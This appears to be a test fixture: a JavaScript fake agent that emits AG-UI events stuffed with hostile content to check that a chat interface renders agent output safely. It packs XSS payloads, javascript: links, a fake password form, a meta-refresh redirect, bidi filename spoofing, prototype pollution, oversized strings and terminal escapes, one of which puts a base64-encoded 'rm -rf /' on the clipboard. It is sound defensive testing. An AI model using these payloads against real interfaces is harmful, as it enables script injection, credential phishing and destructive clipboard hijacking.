// An agent for tests: says and does, as AG-UI events, what tries to run in a browser, to hide or to break the page.
import { randomUUID } from 'node:crypto';

const lure = 'http://lure.invalid';

function emit(type, fields) {
  console.log(JSON.stringify({ type, ...fields }));
}

function say(text) {
  const messageId = randomUUID();
  emit('TEXT_MESSAGE_START', { messageId, role: 'assistant' });
  for (let begin = 0; begin < text.length; begin += 20_000) {
    emit('TEXT_MESSAGE_CONTENT', {
      messageId,
      delta: text.slice(begin, begin + 20_000),
    });
  }
  emit('TEXT_MESSAGE_END', { messageId });
}

function call(toolCallName, input, content) {
  const toolCallId = randomUUID();
  emit('TOOL_CALL_START', { toolCallId, toolCallName });
  emit('TOOL_CALL_ARGS', { toolCallId, delta: JSON.stringify(input) });
  emit('TOOL_CALL_END', { toolCallId });
  emit('TOOL_CALL_RESULT', {
    messageId: randomUUID(),
    toolCallId,
    role: 'tool',
    content,
  });
}

const script = '<script>window.ranByAgent = 1</script>';
const onError = `<img src="${lure}/html.png" onerror="window.ranByAgent = 2">`;

say(`The beginning of what is hostile. ${script}${onError}

<svg onload="window.ranByAgent = 3"><animate onbegin="window.ranByAgent = 4" attributeName="x"/></svg>
<iframe srcdoc="<script>parent.ranByAgent = 5</script>"></iframe>
<picture><source srcset="${lure}/set.png"><img src="${lure}/picture.png"></picture>
<style>* { display: none }</style><link rel="stylesheet" href="${lure}/style.css">
<form action="${lure}/form"><input name="password"><button>Sign in again</button></form>
<div style="position: fixed; inset: 0; background: url(${lure}/cover.png)">covered</div>
<base href="${lure}/"><meta http-equiv="refresh" content="0; url=${lure}/away">

[script](javascript:window.ranByAgent=6) [mixed](JaVaScRiPt:window.ranByAgent=7)
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![image](${lure}/markdown.png)
[vb](vbscript:x) <a href="javascript:window.ranByAgent=8">raw link</a>
[fine](https://example.invalid/docs)`);
say(`> `.repeat(5000));
say(`${'['.repeat(4000)}x${'](y)'.repeat(4000)}`);
say('w'.repeat(1_000_000));
say(`Turned around: \u202Egpj.exe\u202C and \u2066isolated\u2069.`);
call(
  `bash\u202E${script}`,
  { command: `echo \u202E'harmless' # \u2066` },
  `\u001b[31mred\u001b[0m plain \u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007 ` +
    `\u001b]52;c;cm0gLXJmIC8=\u0007\u001b[2J\u001b[1;1H\u001b[8mconcealed\u001b[0m ${onError}\u0007`,
);
call('fetch', { url: lure }, `${script}${'y'.repeat(30_000)}`);
call(
  'Edit',
  { file_path: 'a\n"><script>', old_string: 'old <b>', new_string: 'new <b>' },
  'done',
);
emit('ACTIVITY_SNAPSHOT', {
  messageId: 'plan',
  activityType: 'PLAN',
  content: {
    steps: [
      { description: `Steal ${script}`, status: '__proto__' },
      { description: 'z'.repeat(30_000), status: 'completed' },
    ],
  },
});
emit('STATE_SNAPSHOT', { snapshot: { onError } });
emit('STATE_DELTA', {
  delta: [{ op: 'add', path: '/__proto__/ranByAgent', value: 9 }],
});
emit('RAW', { event: { script }, source: `raw ${script}` });
emit('CUSTOM', { name: `custom ${onError}`, value: { script } });
emit('SUBAGENT_STARTED', {
  subagentRunId: 's1',
  name: `helper ${script}`,
  description: 'x'.repeat(10_000),
});
emit('STEP_STARTED', { stepName: `step ${onError}`, subagentRunId: 's1' });
emit('SUBAGENT_FINISHED', { subagentRunId: 's1', result: onError });
console.error(`\u001b[32mstderr\u001b[0m ${script}`);
say('The end of what is hostile.');
